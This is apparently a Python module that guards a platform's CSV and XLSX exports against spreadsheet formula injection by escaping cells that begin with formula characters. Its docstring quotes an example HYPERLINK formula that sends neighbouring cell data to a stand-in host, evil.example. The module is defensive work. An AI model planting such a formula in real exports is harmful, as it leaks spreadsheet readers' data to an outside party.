"""Cells of exported CSV and XLSX files that a spreadsheet cannot run (decision 0623).

Excel, LibreOffice and Google Sheets read a text cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after a tab or carriage return, likewise) as a formula:
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` typed into a cohort name sends
the neighbouring cells away when a reader of the export clicks it (CSV injection).
Every CSV and XLSX export of the platform passes its cells through
:func:`spreadsheet_safe`, which puts an apostrophe before such text, the way the
spreadsheets themselves mark "text, not a formula". Numbers stay numbers: a value that
is an ``int``, ``float`` or ``Decimal``, and text that is only a number (``-5``,
``-1234.50``), are left alone, since no spreadsheet runs them.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = ["FORMULA_PREFIXES", "spreadsheet_mapping", "spreadsheet_row", "spreadsheet_safe"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?(?:[eE][+-]?[0-9]+)?")


def spreadsheet_safe(value: Any) -> Any:
    """``value``, with an apostrophe before text a spreadsheet would run as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`spreadsheet_safe`."""
    return [spreadsheet_safe(value) for value in values]


def spreadsheet_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every value of a ``csv.DictWriter`` row through :func:`spreadsheet_safe`."""
    return {key: spreadsheet_safe(value) for key, value in row.items()}
